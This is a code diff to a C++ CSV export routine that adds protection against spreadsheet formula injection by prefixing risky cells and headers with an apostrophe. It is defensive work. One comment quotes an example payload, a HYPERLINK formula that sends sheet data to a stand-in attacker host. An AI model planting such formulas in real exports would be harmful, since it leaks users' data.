@@ -8,6 +8,7 @@
 #include <fstream>
 #include <nlohmann/json.hpp>
 #include <ostream>
+#include <regex>
 
 #include "core/error.hpp"
 #include "core/i18n.hpp"
@@ -32,12 +33,30 @@ void WriteCsvField(std::ostream& out, const std::string& text, char delimiter) {
   out << '"';
 }
 
+bool IsPlainNumber(std::string_view text) {
+  static const std::regex kNumber("[+-]?[0-9]+([.,][0-9]+)?([eE][+-]?[0-9]+)?");
+  return std::regex_match(text.begin(), text.end(), kNumber);
+}
+
+// A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as
+// a formula: =HYPERLINK("http://evil.example/?"&A1) in a category would send the sheet's data
+// away when clicked. OWASP's remedy: prefix such text with an apostrophe, which the spreadsheet
+// shows as text. Numbers stay numbers: "-3.5" is not a formula.
+std::string NeutraliseFormula(const std::string& text) {
+  constexpr std::string_view kFormulaStarts = "=+-@\t\r";
+  if (text.empty() || kFormulaStarts.find(text[0]) == std::string_view::npos ||
+      IsPlainNumber(text)) {
+    return text;
+  }
+  return "'" + text;
+}
+
 std::string FormatCell(const Column& column, std::size_t row, const CsvWriteOptions& options) {
   std::string text = column.ValueToString(row);
   if (options.decimal_comma && column.type() == ColumnType::kDouble) {
     std::replace(text.begin(), text.end(), '.', ',');
   }
-  return text;
+  return column.IsNumeric() ? text : NeutraliseFormula(text);
 }
 
 // Count UTF-8 code points: continuation bytes (10xxxxxx) do not start a character.
@@ -68,7 +87,7 @@ void WriteCsv(const Table& table, std::ostream& out, const CsvWriteOptions& opti
   }
   for (std::size_t c = 0; c < table.num_columns(); ++c) {
     if (c > 0) out << options.delimiter;
-    WriteCsvField(out, table.column(c).name(), options.delimiter);
+    WriteCsvField(out, NeutraliseFormula(table.column(c).name()), options.delimiter);
   }
   out << '\n';
   for (std::size_t row = 0; row < table.num_rows(); ++row) {
